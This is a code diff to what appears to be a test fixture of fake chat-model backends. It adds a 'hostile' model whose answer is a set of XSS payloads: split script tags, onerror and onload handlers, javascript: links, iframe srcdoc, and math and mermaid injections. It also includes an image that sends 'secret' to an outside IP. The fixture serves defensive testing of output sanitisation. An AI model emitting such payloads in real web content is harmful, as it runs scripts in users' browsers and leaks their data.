@@ -146,9 +146,20 @@ def _error(status: int, message: str, **more: str) -> list[Step]:
     return whole({"error": {"message": message, "type": "x", "code": "x_code"}}, status, x_request_id="up-1", **more)
 
 
+HOSTILE = (
+    "# Hello\n\n<script>window.hacked = 1</scr", "ipt>\n\n<img src=x onerror=\"window.hacked = 2\">\n\n",
+    "[link](javascript:window.hacked=3) ![pixel](http://203.0.113.9/?q=secret)\n\n",
+    "<iframe srcdoc=\"<script>parent.hacked=4</script>\"></iframe>\n\n<svg onload=\"window.hacked = 5\"></svg>\n\n",
+    "$\\href{javascript:window.hacked=6}{x}$\n\n```mermaid\ngraph TD; A[\"<img src=x onerror=window.hacked=7>\"]\n```\n\nend of answer",
+)  # fmt: skip
+"""An answer that tries everything to have the page run something or ask another host, cut where it hurts."""
+
 MODELS: dict[str, Callable[[Recorded], Sequence[Step]]] = {
     "echo": lambda request: answer(*(f"{word} " for word in _question(request).split())),
     "paced": lambda _: answer(*(f"w{index} " for index in range(20)), first_s=0.02, pause_s=0.005),
+    "slow": lambda _: answer(*(f"word{index} " for index in range(200)), pause_s=0.04),
+    "citing": lambda _: answer("It was ", "Agnes Thornbury ", "[1]", "."),
+    "hostile": lambda _: answer(*HOSTILE),
     "tools": _tools,
     "reasoner": lambda _: stream(
         event(piece({"reasoning_content": "let me "})),
